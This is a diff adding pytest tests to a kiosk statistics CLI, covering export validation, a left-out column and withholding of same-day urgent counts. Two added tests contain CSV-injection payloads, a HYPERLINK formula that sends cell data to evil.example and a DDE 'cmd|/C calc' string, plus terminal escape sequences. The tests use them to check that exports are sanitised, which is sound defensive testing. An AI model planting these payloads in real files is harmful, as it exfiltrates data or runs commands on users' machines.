@@ -16,6 +16,7 @@ import pytest
 
 from kiosk.cli import main
 from kiosk.content import ContentError, load_content
+from kiosk.core.exports import export_of, json_data, summary_of
 from kiosk.core.stats import DayCounts, sample_rows
 from kiosk.stats_store import StatsStore, default_db_path
 
@@ -24,6 +25,8 @@ TODAY = dt.date(2026, 11, 20)
 clock (a run across midnight once lost 'yesterday' from a two-day export)."""
 UNTIL = ["--until", TODAY.isoformat()]
 Capture = pytest.CaptureFixture[str]
+HEAD = "kiosk_id,day,metric,key,count\n"
+FEWER_5 = "fewer than 5 visits"
 
 
 def visits(day: dt.date, n: int, outcome: str = "see_doctor") -> list[DayCounts]:
@@ -64,6 +67,12 @@ class Site:
         path.write_text(capsys.readouterr().out, "utf-8")
         return path
 
+    def export_now(self, capsys: Capture, form: str) -> str:
+        """The export `kiosk stats --FORM` prints now (the period ends today)."""
+        self.use()
+        assert main(["stats", "--days", "2", f"--{form}"]) == 0
+        return capsys.readouterr().out
+
 
 @pytest.fixture
 def site(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Site:
@@ -85,8 +94,8 @@ def test_json_and_csv_are_printed_in_their_format_when_there_are_no_figures_yet(
     # the header, and the period's two ends with no visits: the file names its kiosk and days
     first = (TODAY - dt.timedelta(days=29)).isoformat()
     assert out == (
-        "kiosk_id,day,metric,key,count\n"
-        f"elm-road-1,{first},visits,,0\nelm-road-1,{TODAY.isoformat()},visits,,0\n"
+        "kiosk_id,day,metric,key,count,left_out\n"
+        f"elm-road-1,{first},visits,,0,\nelm-road-1,{TODAY.isoformat()},visits,,0,\n"
     )
     assert "no figures yet" in err
     assert not default_db_path().exists()
@@ -136,7 +145,7 @@ def test_merge_sums_csv_and_json_exports_of_several_kiosks(
     assert f"{'total':<12}{3 * one['visits']:>8}{3 * one['results']:>9}" in table
     assert main(["stats", "merge", *map(str, files), "--csv"]) == 0
     lines = list(csv.reader(io.StringIO(capsys.readouterr().out)))
-    assert lines[0] == ["kiosk_id", "day", "metric", "key", "count"]
+    assert lines[0] == ["kiosk_id", "day", "metric", "key", "count", "left_out"]
     visits_csv = sum(int(line[4]) for line in lines[1:] if line[2] == "visits")
     assert visits_csv == 3 * one["visits"]
 
@@ -193,6 +202,48 @@ def test_merge_keeps_the_small_cell_rule(
         ("kiosk_id,day,metric,key,count\nelm,2026-01-02,visits\n", 2, "expected 5 fields"),
         ('{"visits": 3,\n "per_day": [}', 2, "not an export of `kiosk stats --csv`"),
         ('{\n  "visits": 3\n}\n', 1, 'it has no "rows"'),
+        # issue 28: counts are plain ASCII whole numbers in range, a row is given once
+        *(
+            (f"{HEAD}elm,2026-01-02,visits,,3\nelm,2026-01-03,visits,,{count}\n", 3, problem)
+            for count, problem in [
+                ("1e30", "the count '1e30' is not a whole number written in the digits 0-9"),
+                ("\u0665", "is not a whole number written in the digits 0-9"),
+                ('" 7 "', "the count ' 7 ' is not a whole number"),
+                ("1_000", "the count '1_000' is not a whole number"),
+                ("-1", "the count '-1' is not a whole number"),
+                ("99999999999999999999", "is not a whole number written in the digits 0-9"),
+            ]
+        ),
+        (
+            f"{HEAD}elm,2026-01-02,visits,,3\nelm,2026-01-02,ended,finish,3\n"
+            "elm,2026-01-02,visits,,3\n",
+            4,
+            "2026-01-02 'visits' '' is given twice (first on line 2)",
+        ),
+        (
+            f"{HEAD}elm,2026-01-02,urgent,,{FEWER_5}\nelm,2026-01-02,urgent,,{FEWER_5}\n",
+            3,
+            "the left-out 2026-01-02 'urgent' is given twice (first on line 2)",
+        ),
+        (
+            f"{HEAD}elm\x1b]0;owned\x07,2026-01-02,visits,,3\n",
+            2,
+            "the kiosk id 'elm\\x1b]0;owned\\x07' holds a control character: refused",
+        ),
+        (
+            '{"kiosk_id": "elm",\n "rows": [\n  {"day": "2026-01-02", "metric": "visits", '
+            '"key": "", "count": 2},\n  {"day": "2026-01-03", "metric": "visits", '
+            '"key": "", "count": true}\n]}\n',
+            4,
+            "the count 'True' is not a whole number",
+        ),
+        (
+            '{"kiosk_id": "elm",\n "rows": [\n  {"day": "2026-01-02", "metric": "visits", '
+            '"key": "", "count": 2},\n  {"day": "2026-01-02", "metric": "visits", '
+            '"key": "", "count": 2}\n]}\n',
+            4,
+            "is given twice (first on line 3)",
+        ),
     ],
 )
 def test_merge_names_a_file_that_is_not_an_export_and_its_line(
@@ -251,8 +302,8 @@ def test_until_picks_the_last_day_so_every_kiosk_exports_the_same_days(
     assert main(["stats", "--days", "7", "--until", earlier, "--csv"]) == 0
     lines = list(csv.reader(io.StringIO(capsys.readouterr().out)))
     assert [line for line in lines[1:] if line[2] == "visits"] == [
-        ["elm-road-1", week_before.isoformat(), "visits", "", "5"],
-        ["elm-road-1", earlier, "visits", "", "0"],  # the period's end, with no visits
+        ["elm-road-1", week_before.isoformat(), "visits", "", "5", ""],
+        ["elm-road-1", earlier, "visits", "", "0", ""],  # the period's end, with no visits
     ]
     today = dt.date.today()
     site.record(visits(today, 5))
@@ -327,3 +378,161 @@ def test_a_merged_report_covers_the_whole_period_of_the_exports(
     days = [day["day"] for day in merged["per_day"]]
     assert days[0] == (TODAY - dt.timedelta(days=29)).isoformat() and len(days) == 30
     assert days[-1] == TODAY.isoformat() and merged["visits"] == 11
+
+
+def test_two_exports_around_one_urgent_visit_today_differ_in_nothing_it_answered(
+    site: Site, capsys: Capture
+) -> None:
+    """Issue 28: on a day of 6 visits, exports before and after one urgent visit differed by
+    `outcome,urgent,1`, `urgent,,1` and `screen,result:urgent,1`. Today's figures that follow
+    from answers are left out ('day not over') until the day is over; only visits, results,
+    how visits ended and the screens before the self-check move."""
+    today = dt.date.today()
+    six = visits(today, 6)
+    for counts in six:
+        counts.add("screen", "result:see_doctor")
+    site.record(six)
+    before = set(map(tuple, csv.reader(io.StringIO(site.export_now(capsys, "csv")))))
+    urgent = visits(today, 1, outcome="urgent")[0]
+    urgent.add("urgent")
+    urgent.add("screen", "result:urgent")
+    site.record([urgent])
+    after = set(map(tuple, csv.reader(io.StringIO(site.export_now(capsys, "csv")))))
+    changed = {line[2] for line in before ^ after}
+    assert changed <= {"visits", "results", "ended", "language"}, before ^ after
+    left_out = {line[2] for line in after if line[5] == "day not over" and not line[4]}
+    assert left_out == {"outcome", "urgent", "stopped", "after_result"}
+    assert not any(line[3].startswith("result:") for line in after)
+    json_before = json.loads(site.export_now(capsys, "json"))
+    assert json_before["urgent"] == "day not over"
+    assert main(["stats", "--days", "1"]) == 0
+    assert "urgent: day not over" in capsys.readouterr().out
+    # a merge made today keeps today out, whatever the exports said
+    older = site.folder.parent / "older.csv"
+    older.write_text(
+        f"kiosk_id,day,metric,key,count\nold,{today},visits,,9\nold,{today},urgent,,1\n", "utf-8"
+    )
+    assert main(["stats", "merge", str(older), "--csv"]) == 0
+    merged = capsys.readouterr().out
+    assert f"merged,{today},urgent,,,day not over" in merged
+    assert f"merged,{today},urgent,,1," not in merged
+
+
+FORMULAS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def test_no_cell_a_spreadsheet_would_run_reaches_an_export_or_a_merge(
+    site: Site, capsys: Capture, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """OWASP CSV injection: a kiosk id `=HYPERLINK(...)` and a crafted export's key
+    `@SUM(1+1)*cmd|'/C calc'!A0` are written with a leading quote, so a spreadsheet shows
+    them as text; read back, the quote is taken off again."""
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    site.record(visits(TODAY, 6))
+    monkeypatch.setenv("KIOSK_ID", hostile)
+    monkeypatch.setenv("KIOSK_DATA_DIR", str(site.folder))
+    assert main(["stats", "--days", "2", *UNTIL, "--csv"]) == 0
+    exported = site.folder.parent / "hostile.csv"
+    exported.write_text(capsys.readouterr().out, "utf-8")
+    cells = [cell for line in csv.reader(io.StringIO(exported.read_text())) for cell in line]
+    assert "'" + hostile in cells
+    assert not [cell for cell in cells if cell.startswith(FORMULAS)]
+    crafted = site.folder.parent / "crafted.csv"
+    crafted.write_text(
+        f"{HEAD}crafted,{TODAY},screen,\"@SUM(1+1)*cmd|'/C calc'!A0\",7\ncrafted,{TODAY},-2+3,,1\n",
+        "utf-8",
+    )
+    for form in ("--csv", "--json"):
+        assert main(["stats", "merge", str(exported), str(crafted), form]) == 0
+        out = capsys.readouterr().out
+        if form == "--csv":
+            merged = [cell for line in csv.reader(io.StringIO(out)) for cell in line]
+            assert not [cell for cell in merged if cell.startswith(FORMULAS)], merged
+            assert "'@SUM(1+1)*cmd|'/C calc'!A0" in merged and "'-2+3" in merged
+        else:
+            assert json.loads(out)["kiosks"] == [hostile, "crafted"]  # the id itself, unchanged
+
+
+def test_no_control_character_reaches_the_terminal(
+    site: Site, capsys: Capture, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
+) -> None:
+    """A kiosk id with an ESC sequence (which could retitle or clear the terminal) is written
+    as its escape in every export and table; one read from an export is refused by name."""
+    site.record(visits(TODAY, 6))
+    monkeypatch.setenv("KIOSK_ID", "elm\x1b[2J\x1b]0;owned\x07")
+    monkeypatch.setenv("KIOSK_DATA_DIR", str(site.folder))
+    for form in ("--csv", "--json"):
+        assert main(["stats", "--days", "1", *UNTIL, form]) == 0
+        out = capsys.readouterr().out
+        assert "\x1b" not in out and "\x07" not in out
+        shown = out if form == "--csv" else json.loads(out)["kiosk_id"]
+        assert "elm\\x1b[2J" in shown
+    path = tmp_path / "esc.csv"
+    path.write_text(f"{HEAD}ok,{TODAY},visits,,6\nok,{TODAY},language,\x1b[31mred,6\n", "utf-8")
+    assert main(["stats", "merge", str(path)]) == 1
+    err = capsys.readouterr().err
+    assert err.startswith(f"kiosk stats merge: {path}:3: the key '\\x1b[31mred' holds a control")
+    assert "\x1b" not in err
+
+
+def test_a_year_of_two_kiosks_merges_exactly_and_names_a_late_bad_row_by_its_line(
+    tmp_path: Path, capsys: Capture
+) -> None:
+    """The merge reads each row once (it was quadratic: 37.6 s for one year of JSON); its
+    speed is measured by bench/merge.py, not here. Here: the sums of two one-year exports
+    are exact, and a bad row near the end of a long JSON export is still named by its
+    own line."""
+    end = TODAY - dt.timedelta(days=1)
+    rows = sample_rows(end, days=365)
+    files = []
+    for ident in ("elm", "oak"):
+        export = export_of(rows, 365, end, ident)
+        path = tmp_path / f"{ident}.json"
+        path.write_text(json.dumps(json_data(export, summary_of(export)), indent=2), "utf-8")
+        files.append(path)
+    assert main(["stats", "merge", *map(str, files), "--json"]) == 0
+    merged = json.loads(capsys.readouterr().out)
+    assert merged["visits"] == 2 * sum(r.n for r in rows if r.metric == "visits")
+    text = files[1].read_text("utf-8")
+    last = text.rindex('"count": ')
+    files[1].write_text(text[:last] + '"count": "1e30"' + text[text.index("\n", last) :])
+    line = text[:last].count("\n") + 1
+    assert main(["stats", "merge", *map(str, files)]) == 1
+    assert capsys.readouterr().err.startswith(
+        f"kiosk stats merge: {files[1]}:{line - 4}: the count '1e30'"
+    )
+
+
+def test_the_csv_count_column_holds_numbers_only_and_names_the_kiosks_that_left_a_cell_out(
+    site: Site, capsys: Capture, tmp_path: Path
+) -> None:
+    """Fleet tester: the merged CSV's count column mixed numbers with "fewer than 5 visits",
+    so pandas read it as text (visits summed to "019"), and a left-out row did not say which
+    kiosk left its day out. The count is a number or empty; why a cell is left out, and by
+    which kiosks, stands in a column of its own."""
+    day = TODAY - dt.timedelta(days=3)
+    busy = tmp_path / "busy.csv"
+    busy.write_text(
+        f"{HEAD}busy,{day},visits,,9\nbusy,{day},urgent,,2\nbusy,{day},outcome,urgent,2\n",
+        "utf-8",
+    )
+    quiet = tmp_path / "quiet.csv"
+    quiet.write_text(
+        f"{HEAD}quiet,{day},visits,,2\nquiet,{day},urgent,,{FEWER_5}\n"
+        f"quiet,{day},outcome,,{FEWER_5}\n",
+        "utf-8",
+    )
+    assert main(["stats", "merge", str(busy), str(quiet), "--csv"]) == 0
+    lines = list(csv.reader(io.StringIO(capsys.readouterr().out)))
+    assert lines[0] == ["kiosk_id", "day", "metric", "key", "count", "left_out"]
+    for line in lines[1:]:
+        assert line[4] == "" or line[4].isdigit(), line  # a spreadsheet sums this column
+        assert bool(line[4]) != bool(line[5]), line  # a count, or why it is left out
+    assert ["merged", day.isoformat(), "visits", "", "11", ""] in lines
+    assert ["merged", day.isoformat(), "urgent", "", "2", ""] in lines
+    assert ["merged", day.isoformat(), "urgent", "", "", f"{FEWER_5}: quiet"] in lines
+    # the merged file reads back, as an export of the new form
+    again = tmp_path / "merged.csv"
+    again.write_text("\n".join(",".join(line) for line in lines) + "\n", "utf-8")
+    assert main(["stats", "merge", str(again), "--json"]) == 0
+    assert json.loads(capsys.readouterr().out)["visits"] == 11
